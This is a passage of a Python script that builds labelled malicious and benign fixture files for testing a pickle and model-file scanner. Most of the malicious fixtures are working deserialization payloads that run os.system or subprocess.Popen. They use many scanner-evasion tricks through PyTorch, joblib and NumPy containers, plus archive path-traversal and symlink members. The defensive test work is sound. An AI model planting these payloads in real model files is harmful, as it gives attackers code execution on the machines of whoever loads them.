            + u("os") + MEMOIZE + BINGET + b"\x03" + BINGET + b"\x00" + STACK_GLOBAL
            + integer(0x42) + STOP)


def m_memo_type_confusion():
    """Like picklescan's type-confusion-exploit.pkl: os.system runs, then an
    int pulled from the memo is used as a STACK_GLOBAL module name."""
    return (proto(4) + gl("os", SYS) + u(CMD) + TUPLE1 + REDUCE + POP
            + pickle.BININT + struct.pack("<i", 42) + MEMOIZE
            + u("os") + MEMOIZE
            + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL
            + integer(0x42) + STOP)


def m_nonliteral_join():
    """STACK_GLOBAL operands computed at load time with str.join."""
    join = sg("builtins", "str.join")
    mod = call(join, u(""), EMPTY_LIST + MARK + u("o") + u("s") + pickle.APPENDS)
    name = call(join, u(""), EMPTY_LIST + MARK + b"".join(u(c) for c in SYS) + pickle.APPENDS)
    return p4(mod + name + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE)


def m_nonliteral_rot13():
    """STACK_GLOBAL operands produced by _codecs.decode(..., 'rot13')."""
    import codecs
    dec = sg("_codecs", "decode")
    mod = call(dec, u(codecs.encode("os", "rot13")), u("rot13"))
    name = call(dec, u(codecs.encode(SYS, "rot13")), u("rot13"))
    return p4(mod + name + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE)


def m_build_module_override():
    """BUILD on a module object (typing.collections) writes into the module
    __dict__: collections.OrderedDict becomes os.system, and the later,
    innocent-looking GLOBAL collections.OrderedDict runs the command."""
    state = EMPTY_DICT + u("OrderedDict") + gl("os", SYS) + SETITEM
    return p2(gl("typing", "collections") + state + BUILD + POP
              + call(gl("collections", "OrderedDict"), u(CMD)))


def m_sys_modules_override():
    """sys.modules['collections'] = os (SETITEM on the sys.modules dict), so
    find_class('collections', 'system') resolves to os.system."""
    return p2(gl("sys", "modules") + u("collections") + gl("shutil", "os") + SETITEM + POP
              + call(gl("collections", SYS), u(CMD)))


def m_inst_os_system():
    """Protocol-0 INST: instantiate(os.system, ('echo pwned',)) calls it."""
    return b"(S'" + CMD.encode() + b"'\nios\n" + SYS.encode() + b"\np0\n."


def _popen_args():
    # (['echo', 'pwned'], 0): Popen(args, bufsize=0); also fits CompletedProcess(args, returncode)
    return EMPTY_LIST + MARK + u("echo") + u("pwned") + pickle.APPENDS + integer(0)


def m_inst_popen():
    """Protocol-0 INST subprocess.Popen(['echo', 'pwned'], 0)."""
    return (b"((lp0\nV" + b"echo\np1\naV" + b"pwned\np2\naI0\n" + b"isubprocess\n"
            + POPEN.encode() + b"\np3\n.")


def m_obj_popen():
    """OBJ: MARK subprocess.Popen args... OBJ."""
    return p2(MARK + gl("subprocess", POPEN) + _popen_args() + pickle.OBJ)


def m_obj_os_system():
    """OBJ with a builtin function as the 'class'."""
    return p2(MARK + gl("os", SYS) + u(CMD) + pickle.OBJ)


def m_newobj_popen():
    """NEWOBJ Popen (no __init__ yet), then Popen.__init__(obj, args) via REDUCE."""
    obj = sg("subprocess", POPEN) + EMPTY_TUPLE + pickle.NEWOBJ + MEMOIZE
    init = sg("subprocess", POPEN + ".__init__")
    return p4(obj + POP + init + MARK + BINGET + b"\x00" + _popen_args() + TUPLE + REDUCE)


def m_ext1():
    """copyreg.add_extension('os', 'system', 0xF0) registers an extension code;
    EXT1 0xF0 then resolves to os.system without any GLOBAL naming it."""
    reg = call(gl("copyreg", "add_extension"), u("os"), u(SYS), integer(0xF0))
    return p2(reg + POP + pickle.EXT1 + b"\xf0" + u(CMD) + TUPLE1 + REDUCE)


def m_nested(kind, inner):
    """An outer pickle that hands inner payload bytes to another loader."""
    bio = lambda data: call(sg("io", "BytesIO"), by(data))
    if kind == "pickle.loads":
        return p4(call(sg("pickle", "loads"), by(inner)))
    if kind == "_pickle.loads":
        return p4(call(sg("_pickle", "loads"), by(inner)))
    if kind == "base64":
        import base64
        return p4(call(sg("pickle", "loads"),
                       call(sg("base64", "b64decode"), u(base64.b64encode(inner).decode()))))
    if kind == "hex":
        return p4(call(sg("pickle", "loads"), call(sg("builtins", "bytes.fromhex"), u(inner.hex()))))
    if kind == "zlib":
        return p4(call(sg("pickle", "loads"), call(sg("zlib", "decompress"), by(zlib.compress(inner)))))
    if kind == "torch.load":
        # functools.partial(torch.load) configured through BUILD/__setstate__ with
        # weights_only=False, then called on io.BytesIO(legacy torch stream).
        part = call(sg("functools", "partial"), sg("torch", "load"))
        kwargs = EMPTY_DICT + u("weights_only") + NEWFALSE + SETITEM
        state = tup(sg("torch", "load"), EMPTY_TUPLE, kwargs, NONE)
        return p4(part + state + BUILD + tup(bio(inner)) + REDUCE)
    if kind == "joblib.load":
        return p4(call(sg("joblib", "load"), bio(inner)))
    if kind == "numpy.load":
        # numpy.load(file, mmap_mode=None, allow_pickle=True) -- positional args
        return p4(call(sg("numpy", "load"), bio(inner), NONE, NEWTRUE))
    raise ValueError(kind)


# ---------------------------------------------------------------------------
# Driver.
# ---------------------------------------------------------------------------
class Writer:
    """Writes fixture files and collects the manifest."""

    def __init__(self, outdir):
        self.outdir = outdir
        self.manifest = []
        for sub in ("malicious", "benign"):
            os.makedirs(os.path.join(outdir, sub), exist_ok=True)

    def add(self, label, name, data, why):
        rel = f"{label}/{name}"
        assert all(e["file"] != rel for e in self.manifest), rel
        with open(os.path.join(self.outdir, rel), "wb") as f:
            f.write(data)
        self.manifest.append({"file": rel, "label": label, "why": why})

    def finish(self):
        with open(os.path.join(self.outdir, "manifest.json"), "w", encoding="utf-8") as f:
            json.dump(self.manifest, f, indent=1, ensure_ascii=False)
            f.write("\n")


def make_malicious(w):
    M = lambda name, data, why: w.add("malicious", name, data, why)
    evil4 = evil_pickle(4)
    evil2 = evil_pickle(2)

    # -- plain payload at every protocol ------------------------------------
    names = {0: "proto0_os_system.pkl", 1: "proto1_os_system.pkl", 2: "proto2_os_system.pkl",
             3: "proto3_os_system.bin", 4: "proto4_os_system", 5: "proto5_os_system.bak"}
    for p, name in names.items():
        M(name, evil_pickle(p),
          f"pickle.dumps protocol {p} of __reduce__ -> (os.system, ('{CMD}',)); records posix.system")

    # -- dotted names through module aliases ------------------------------------
    M("dotted_random__os_system.pkl", m_dotted("random", f"_os.{SYS}"),
      "STACK_GLOBAL('random', '_os.system'): proto>=4 find_class walks random._os -> os.system")
    M("dotted_shutil_os_system_GLOBAL.bin", m_dotted("shutil", f"os.{SYS}", use_stack_global=False),
      "GLOBAL 'shutil os.system' after PROTO 4: dotted names also work through GLOBAL")
    M("dotted_tempfile__os_system", m_dotted("tempfile", f"_os.{SYS}"),
      "STACK_GLOBAL('tempfile', '_os.system'), no file extension")
    M("dotted_pathlib_os_system.pkl", m_dotted("pathlib", f"os.{SYS}"),
      "STACK_GLOBAL('pathlib', 'os.system')")
    M("dotted_os_path_os_system.pkl", m_dotted("os", f"path.os.{SYS}"),
      "STACK_GLOBAL('os', 'path.os.system'): os.path is posixpath which imports os")
    M("dotted_torch_serialization_os_system.pt", m_dotted("torch", f"serialization.os.{SYS}"),
      "STACK_GLOBAL('torch', 'serialization.os.system'): allowlisted module, dangerous attribute path")
    M("builtins_getattr_chain.pkl", m_getattr_chain(),
      "builtins.getattr chain pathlib.os -> .path -> .os -> .system, then called")
    M("importlib_import_module.pkl", m_importlib(),
      "getattr(importlib.import_module('os'), 'system')('echo pwned')")
    M("builtin___import___proto2.pkl", m_dunder_import(),
      "getattr(__builtin__.__import__('os'), 'system')(...) using py2 module names")
    M("builtins_eval.pkl", m_eval(), "builtins.eval of an __import__('os').system(...) string")

    # -- operator / functools indirection ---------------------------------------
    M("operator_call.pkl", m_operator_call("operator"), "operator.call(os.system, 'echo pwned')")
    M("_operator_call.bin", m_operator_call("_operator"), "_operator.call(os.system, 'echo pwned')")
    M("operator_attrgetter_itemgetter.pkl", m_attrgetter(),
      "attrgetter('system')(itemgetter('os')(sys.modules))(...): no os global at all")
    M("operator_methodcaller.pkl", m_methodcaller(),
      "_operator.methodcaller('system', 'echo pwned')(shutil.os)")
    M("functools_reduce_getattr.pkl", m_functools_reduce(),
      "functools.reduce(getattr, ['system'], tempfile._os)('echo pwned')")
    M("functools_partial.pkl", m_functools_partial(),
      "functools.partial(os.system, 'echo pwned') called with an empty tuple")

    # -- PyTorch containers -----------------------------------------------------
    legacy_evil = torch_legacy(evil2, [TStorage("FloatStorage", "140234", b"\0" * 16)])
    M("legacy_torch_payload_in_4th_pickle.bin", legacy_evil,
      "legacy torch.save stream: magic/protocol/sys_info pickles are clean, the 4th (main) pickle "
      "runs os.system; storage keys + raw storage follow")
    sys_info = pickle.dumps(LEGACY_SYS_INFO, protocol=2)
    M("plain_pickled_tensor_storage_payload.pkl", plain_pickled_tensors(legacy_evil),
      "tensors pickled with plain pickle; one storage's _load_from_bytes bytes are a legacy "
      "checkpoint whose 4th pickle calls os.system")
    M("torch_load_from_bytes_computed_arg.pkl",
      p2(call(gl("torch.storage", "_load_from_bytes"), call(gl("builtins", "getattr"), u("x"), u("y")))),
      "torch.storage._load_from_bytes (torch.load weights_only=False) on a computed argument")
    # -- FRAME longer than the data: the C unpickler refuses, pickle._Unpickler
    #    (what joblib uses) runs the opcodes ---------------------------------------
    body = gl("posix", "system") + tup(u(CMD)) + REDUCE + STOP
    M("frame_overrun_python_unpickler.pkl",
      proto(4) + FRAME + struct.pack("<Q", len(body) + 3) + body,
      "FRAME declares 3 bytes more than remain; pickle._Unpickler (joblib) still runs os.system")

    # -- allowances that depend on how a global is used -------------------------
    M("getattr_allowed_class_unlisted_attr.pkl",
      p4(call(call(gl("builtins", "getattr"), gl("collections", "OrderedDict"), u("fromkeys")), u("abc"))),
      "getattr(collections.OrderedDict, 'fromkeys'): an allowed class, but an attribute no profile allows")
    M("getattr_allowed_class_dunder.pkl",
      p4(call(call(gl("builtins", "getattr"), gl("builtins", "object"), u("__subclasses__")))),
      "getattr(object, '__subclasses__') walks to every loaded class")
    M("functools_partial_os_system.pkl",
      p4(call(call(gl("functools", "partial"), gl("os", "system"), u(CMD)))),
      "functools.partial(os.system, CMD)() (partial is allowed only around allowed callables)")
    M("functools_partial_unknown_callable.pkl",
      p4(call(gl("functools", "partial"), gl("mypkg.tools", "run_job"))),
      "functools.partial around a callable no profile allows")
    M("new_only_class_called_by_reduce.pkl",
      p4(call(gl("xgboost.core", "Booster"), NONE, NONE, u("/etc/passwd"))),
      "xgboost.core.Booster(None, None, '/etc/passwd'): its constructor reads model_file; "
      "only NEWOBJ + setstate is how pickle rebuilds it")
    M("type_three_arguments.pkl",
      p4(call(gl("builtins", "type"), u("X"), tup(gl("builtins", "object")), EMPTY_DICT)),
      "builtins.type('X', (object,), {}) creates a class")
    M("scipy_stats_gen_parse_arg_template.pkl",
      p4(gl("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + pickle.NEWOBJ + EMPTY_DICT
         + u("_parse_arg_template") + u("import os; os.system('%s')" % CMD) + SETITEM + BUILD),
      "scipy.stats norm_gen with a _parse_arg_template that rv_generic.__setstate__ passes to exec")
    M("legacy_torch_tar.pt", tar_bytes([
        ("sys_info", sys_info), ("pickle", evil2),
        ("tensors", pickle.dumps(0, protocol=2)),
        ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))]),
      "old torch tar checkpoint; torch.load's legacy_load unpickles the 'pickle' member")
    torch_evil_entries = [
        {"name": "archive/data.pkl", "data": evil2, "align": 64},
        {"name": "archive/data/0", "data": b"\0" * 64, "align": 64},
        {"name": "archive/version", "data": b"3\n", "align": 64}]
    M("torch_zip_data_pkl.pt", zip_bytes(torch_evil_entries),
      "zip torch checkpoint whose archive/data.pkl runs os.system")
    bad = [dict(e) for e in torch_evil_entries]
    bad[0].update(crc_xor=0xDEADBEEF, local_flags=0x21)
    M("torch_zip_bad_crc_local_flags.pt", zip_bytes(bad),
      "data.pkl has a wrong CRC-32 (PyTorch's miniz is built with CRC checks disabled; Python "
      "zipfile raises BadZipFile) and local-header flags 0x21 (encrypted|patched) that only "
      "local-header readers see; the central directory flags are 0 so torch.load still works")
    mism = [dict(e) for e in torch_evil_entries]
    mism[0]["local_name"] = "README.txt"
    M("torch_zip_local_name_mismatch.pt", zip_bytes(mism),
      "local header says README.txt, central directory says archive/data.pkl (miniz ignores the "
      "local name, Python zipfile refuses to open the member)")
    dup = [{"name": "archive/data.pkl", "data": pickle.dumps(OrderedDict(), protocol=2), "align": 64},
           {"name": "archive/data.pkl", "data": evil2, "align": 64}] + torch_evil_entries[1:]
    M("torch_zip_duplicate_data_pkl.pt", zip_bytes(dup),
      "two members named archive/data.pkl, first benign, second malicious (readers disagree on which wins)")

    # -- pickle followed by a zip --------------------------------------------
    tail_zip = zip_bytes([{"name": "archive/version", "data": b"3\n"},
                          {"name": "archive/data.pkl", "data": pickle.dumps({}, protocol=2)}])
    M("pickle_then_zip.bin", evil4 + tail_zip,
      "malicious pickle followed by a complete clean zip: zipfile opens it via the EOCD record, "
      "pickle.load / torch.load (no PK magic at offset 0) run the leading pickle")

    # -- joblib compressed containers -------------------------------------------
    M("joblib_zlib_level1.pkl.z", zlib_joblib(evil4, 1), "joblib zlib container (78 01)")
    M("joblib_zlib_level9.joblib", zlib_joblib(evil4, 9), "joblib zlib container (78 da)")
    M("joblib_zlib_level6.bak", zlib_joblib(evil4, 6), "joblib zlib container (78 9c), odd extension")
    M("joblib_gzip.gz", gzip.compress(evil4, mtime=0), "joblib gzip container")
    M("joblib_bz2", bz2.compress(evil4), "joblib bz2 container, no extension")
    M("joblib_xz.joblib", lzma.compress(evil4, format=lzma.FORMAT_XZ), "joblib xz container")
    M("joblib_lzma.bin", lzma.compress(evil4, format=lzma.FORMAT_ALONE),
      "joblib lzma (FORMAT_ALONE, 5d 00 ..) container")
    M("joblib_lz4_raw_blocks.lz4", lz4_frame(evil4, compress_blocks=False),
      "joblib lz4 frame with uncompressed blocks")
    padded = pickle.dumps([list(range(40)) for _ in range(3)] + [EvilReduce()], protocol=4)
    M("joblib_lz4_compressed_blocks.pkl", lz4_frame(padded, compress_blocks=True),
      "joblib lz4 frame with LZ4-compressed blocks (matches + literals); payload after a list")

    # -- junk after STOP ------------------------------------------------------------
    junk = random.Random(7).randbytes(96)
    M("junk_between_benign_and_malicious.pkl", pickle.dumps(["a", "b", "c"], protocol=4) + junk + evil4,
      "clean pickle, STOP, random junk, then a malicious pickle: not reached by one pickle.load, "
      "but by anything reading from that offset; scanners must not stop at the first STOP")
    M("malicious_then_junk.bin", evil4 + junk,
      "malicious pickle then random junk (pickle.load stops at STOP and ignores the junk)")

    # -- FRAME abuse ----------------------------------------------------------------
    M("frame_straddle_proto4.pkl", m_frame_straddle(),
      "FRAME lengths not aligned with opcode boundaries: pickle.loads(bytes) and "
      "pickle.load(open(path, 'rb')) (peekable file) run it; the pure-Python unpickler and "
      "the C one over a non-peekable stream (io.BytesIO) reject it")
    M("frame_overlong_after_reduce.pkl", m_frame_overlong(),
      "os.system REDUCE, then a FRAME longer than the file: load errors only after the call")

    # -- memo games ---------------------------------------------------------------
    M("memo_put_overwrite.pkl", m_memo_put_overwrite(),
      "PUT 0/1 hold builtins/getattr, then are overwritten with os/system before GET+STACK_GLOBAL")
    M("memo_memoize_len_index.pkl", m_memo_memoize_len(),
      "after PUT 3, MEMOIZE writes memo[len(memo)]=memo[1]; GET 1 + GET 3 -> os.system")
    M("memo_keyerror_style.pkl", m_memo_keyerror(),
      "os.system REDUCE then GET of an unset memo index (picklescan keyerror-exploit style)")
    M("memo_type_confusion_style.pkl", m_memo_type_confusion(),
      "os.system REDUCE then STACK_GLOBAL on (int 42, 'os') from the memo (type-confusion style)")

    # -- non-literal STACK_GLOBAL operands -------------------------------------------
    M("nonliteral_stack_global_str_join.pkl", m_nonliteral_join(),
      "STACK_GLOBAL module/name built at load time by builtins.str.join")
    M("nonliteral_stack_global_rot13.pkl", m_nonliteral_rot13(),
      "STACK_GLOBAL module/name built by _codecs.decode('bf', 'rot13') etc.")

    # -- object construction opcodes -------------------------------------------------
    M("build_module_attr_override.pkl", m_build_module_override(),
      "BUILD on the collections module (via typing.collections) replaces OrderedDict with "
      "os.system, then GLOBAL collections.OrderedDict is called")
    M("sys_modules_override.pkl", m_sys_modules_override(),
      "SETITEM into sys.modules maps 'collections' to os, then GLOBAL collections.system is called")
    M("inst_os_system.pkl", m_inst_os_system(), "protocol-0 INST 'os system' with ('echo pwned',)")
    M("inst_subprocess_popen", m_inst_popen(), "protocol-0 INST subprocess.Popen(['echo','pwned'], 0)")
    M("obj_subprocess_popen.pkl", m_obj_popen(), "OBJ subprocess.Popen(['echo','pwned'], 0)")
    M("obj_os_system.pkl", m_obj_os_system(), "OBJ with os.system as the class argument")
    M("newobj_subprocess_popen_init.pkl", m_newobj_popen(),
      "NEWOBJ subprocess.Popen then subprocess.Popen.__init__(obj, ['echo','pwned'], 0)")
    M("ext1_copyreg_add_extension.pkl", m_ext1(),
      "copyreg.add_extension('os','system',240) then EXT1 240 resolves os.system")

    # -- nested loaders ---------------------------------------------------------------
    inner = evil_pickle(2)
    M("nested_pickle_loads_raw.pkl", m_nested("pickle.loads", inner), "pickle.loads(raw payload bytes)")
    M("nested__pickle_loads_raw.pkl", m_nested("_pickle.loads", inner), "_pickle.loads(raw payload bytes)")
    M("nested_pickle_loads_base64.pkl", m_nested("base64", inner), "pickle.loads(base64.b64decode(str))")
    M("nested_pickle_loads_hex.pkl", m_nested("hex", inner), "pickle.loads(bytes.fromhex(str))")
    M("nested_pickle_loads_zlib.pkl", m_nested("zlib", inner), "pickle.loads(zlib.decompress(bytes))")
    M("nested_torch_load_bytesio.pt", m_nested("torch.load", legacy_evil),
      "partial(torch.load, weights_only=False)(io.BytesIO(legacy torch stream with payload))")
    M("nested_joblib_load_bytesio.pkl", m_nested("joblib.load", zlib_joblib(inner, 3)),
      "joblib.load(io.BytesIO(zlib-compressed payload pickle))")
    obj_npy = npy_bytes("|O", (1,), evil_pickle(3))
    M("nested_numpy_load_bytesio.pkl", m_nested("numpy.load", obj_npy),
      "numpy.load(io.BytesIO(object .npy), None, True) -> allow_pickle positional")

    # -- NumPy ---------------------------------------------------------------------------
    M("numpy_object_array.npy", obj_npy,
      "object-dtype .npy ('|O'); numpy.load(allow_pickle=True) unpickles the body -> os.system")
    benign_w = npy_bytes("<f4", (8,), struct.pack("<8f", *range(8)))
    M("numpy_object_array_in.npz", npz_bytes([("weights.npy", benign_w), ("meta.npy", obj_npy)],
                                             zipfile.ZIP_STORED),
      ".npz whose meta.npy member is an object array running os.system")

    # -- archives -------------------------------------------------------------------------
    M("zip_with_pkl_member.zip", zip_bytes([
        {"name": "model/config.json", "data": b'{"arch": "mlp"}\n', "method": 8},
        {"name": "model/model.pkl", "data": evil4, "method": 8}]),
      "zip archive with a deflated malicious .pkl member")
    M("tar_gz_with_pkl_member.tar.gz", tar_bytes([
        ("model/README.md", b"# tiny model\n"), ("model/model.pkl", evil4)], gz=True),
      "tar.gz with a malicious .pkl member")
    inner_zip = zip_bytes([{"name": "model.pkl", "data": evil4}])
    outer_zip = zip_bytes([{"name": "inner/model.zip", "data": inner_zip, "method": 8}])
    M("tar_zip_zip_nested.tar", tar_bytes([
        ("bundle/README.md", b"nested bundle\n"), ("bundle/outer.zip", outer_zip)]),
      "tar -> zip (deflated) -> zip -> model.pkl payload")
    clean = pickle.dumps([1, 2, 3], protocol=4)
    M("zip_path_traversal.zip", zip_bytes([{"name": "../../evil.pkl", "data": clean}]),
      "member path ../../evil.pkl escapes the extraction dir (content itself is clean)")
    M("zip_absolute_path.zip", zip_bytes([{"name": "/tmp/evil.pkl", "data": clean}]),
      "absolute member path /tmp/evil.pkl (content itself is clean)")
    M("tar_symlink_outside.tar", tar_bytes([
        ("model/weights.txt", b"0.1 0.2\n"),
        ("symlink", "model/config.json", "../../etc/passwd")]),
      "tar symlink member pointing outside the extraction dir (../../etc/passwd)")


def make_benign(w):
    B = lambda name, data, why: w.add("benign", name, data, why)

    # 5,000,000 ints, protocol 4 (~25 MB): BININT/BININT1/BININT2 + APPENDS batches
    ints = [(i * 2654435761) & 0x7FFFFFFF for i in range(5_000_000)]
    for i in range(0, len(ints), 97):
        ints[i] = -ints[i]
    B("large_int_list_p4.pkl", pickle.dumps(ints, protocol=4),
      "list of 5,000,000 ints, protocol 4 (framed, APPENDS batches)")
    del ints

    # float32 .npy with 4M elements (16 MiB body)
    rng = random.Random(42)
    block = array.array("f", (rng.uniform(-1, 1) for _ in range(4096)))
    if sys.byteorder != "little":
        block.byteswap()
    B("float32_4m.npy", npy_bytes("<f4", (2048, 2048), block.tobytes() * 1024),
      "float32 .npy, shape (2048, 2048), hand-written v1.0 header")

    a = struct.pack("<100000q", *range(100000))
    b = struct.pack("<50000q", *[(i * i) % 1_000_003 for i in range(50000)])
    members = [("a.npy", npy_bytes("<i8", (100000,), a)), ("b.npy", npy_bytes("<i8", (250, 200), b))]
    B("two_int64_arrays_stored.npz", npz_bytes(members, zipfile.ZIP_STORED),
      "numpy.savez layout: two int64 arrays, stored, zip64 extras")
    B("two_int64_arrays_deflated.npz", npz_bytes(members, zipfile.ZIP_DEFLATED),
      "numpy.savez_compressed layout: two int64 arrays, deflated, zip64 extras")

    # PyTorch >= 1.6 zip checkpoint
    data_pkl, storages = torch_checkpoint(legacy=False)
    B("torch_zip_checkpoint.pt", torch_zip(data_pkl, storages),
      "torch.save zip layout: data.pkl (proto 2, _rebuild_tensor_v2/_rebuild_parameter, "
      "Float/Long/Half/BFloat16Storage, OrderedDict state_dict with _metadata), byteorder, "
      "data/0..N, version, .data/serialization_id; 64-byte aligned")
    B("pytorch_model.bin", torch_zip(data_pkl, storages, archive="pytorch_model"),
      "same checkpoint saved as pytorch_model.bin (archive prefix taken from the file name)")

    # PyTorch < 1.6 legacy checkpoint
    legacy_pkl, legacy_storages = torch_checkpoint(legacy=True)
    B("torch_legacy_checkpoint.pth", torch_legacy(legacy_pkl, legacy_storages),
      "legacy torch.save stream: magic, protocol 1001, sys_info, main pickle with 6-tuple "
      "persistent ids, storage keys, raw storages")

    B("plain_pickled_tensors.pkl", plain_pickled_tensors(),
      "pickle.dumps of an OrderedDict of tensors without torch.save: storages go through "
      "torch.storage._load_from_bytes(<legacy checkpoint bytes>), which are scanned")

    # text whose first letter is a pickle opcode ('c' = GLOBAL)
    B("chat_template.yaml",
      b"chat_template: '{% for message in messages %}{{ message.content }}{% endfor %}'\n"
      b"model_max_length: 4096\npadding_side: left\n",
      "YAML starting with 'c': reads as a GLOBAL of a name no importer accepts; not a pickle")

    # globals that are allowed only in the shape pickle itself writes them
    B("zoneinfo_bound_classmethod.pkl",
      p4(call(call(gl("builtins", "getattr"), gl("zoneinfo", "ZoneInfo"), u("_unpickle")), u("Europe/Paris"), b"K\x01")),
      "how pickle writes zoneinfo.ZoneInfo('Europe/Paris'): getattr(ZoneInfo, '_unpickle')(key, 1)")
    for p in (0, 2, 4):
        B(f"none_type_proto{p}.pkl", pickle.dumps(type(None), protocol=p),
          f"pickle.dumps(type(None)), protocol {p}: builtins.type(None)")
        B(f"functools_partial_of_dict_proto{p}.pkl", pickle.dumps(functools.partial(dict, a=1), protocol=p),
          f"pickle.dumps(functools.partial(dict, a=1)), protocol {p}")
    booster = standin_class("xgboost.core", "Booster")
    with fake_modules({"xgboost": {}, "xgboost.core": {"Booster": booster}}):
        obj = booster()
        obj.__dict__.update({"handle": None, "raw": b"\x7bL\x00\x00\x00\x00\x00\x00\x00\x0c" * 8})
        for p in (0, 2, 4):
            B(f"xgboost_booster_newobj_proto{p}.pkl", pickle.dumps(obj, protocol=p),
              f"an xgboost.core.Booster rebuilt by __new__ + __setstate__, protocol {p}")

    # sklearn-like joblib (zlib level 3 -> 'x^')
    B("sklearn_like_model.joblib", zlib_joblib(sklearn_like_pickle(), 3),
      "joblib zlib container of a LogisticRegression-like dict with numpy _reconstruct/ndarray/dtype")

    for p in range(6):
        B(f"plain_data_proto{p}.pkl", pickle.dumps(plain_data(), protocol=p),
          f"plain data (dict/list/tuple/set/frozenset/bytes/bytearray/float/big int/unicode) protocol {p}")


def self_check(outdir):
    """Cheap structural checks of the written files (no pickle is ever loaded)."""
    import pickletools
    mal = os.path.join(outdir, "malicious")
    # zip-based fixtures that Python's zipfile is expected to open cleanly
    for name in ("torch_zip_data_pkl.pt", "zip_with_pkl_member.zip", "pickle_then_zip.bin",
                 "numpy_object_array_in.npz"):
        with zipfile.ZipFile(os.path.join(mal, name)) as zf:
            assert zf.testzip() is None, name
    for name in ("torch_zip_checkpoint.pt", "two_int64_arrays_stored.npz",
                 "two_int64_arrays_deflated.npz", "pytorch_model.bin"):
        with zipfile.ZipFile(os.path.join(outdir, "benign", name)) as zf:
            assert zf.testzip() is None, name
    # every hand-written plain pickle must at least disassemble up to STOP
    for name in ("memo_put_overwrite.pkl", "memo_memoize_len_index.pkl",
                 "ext1_copyreg_add_extension.pkl", "nonliteral_stack_global_rot13.pkl",
                 "build_module_attr_override.pkl", "newobj_subprocess_popen_init.pkl",
                 "inst_subprocess_popen", "functools_reduce_getattr.pkl"):
        with open(os.path.join(mal, name), "rb") as f:
            for _ in pickletools.genops(f):
                pass


def main():
    global SYS, POPEN
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--harmless-sink", action="store_true",
                    help="replace os.system/subprocess.Popen by os.fspath/subprocess.CompletedProcess "
                         "(only to verify the chains by loading them; NOT fixtures)")
    args = ap.parse_args()
    if args.harmless_sink:
        SYS, POPEN = "fspath", "CompletedProcess"
    w = Writer(args.outdir)
    make_malicious(w)
    make_benign(w)
    w.finish()
    self_check(args.outdir)
    print(f"wrote {len(w.manifest)} fixtures to {args.outdir}")


if __name__ == "__main__":
    main()
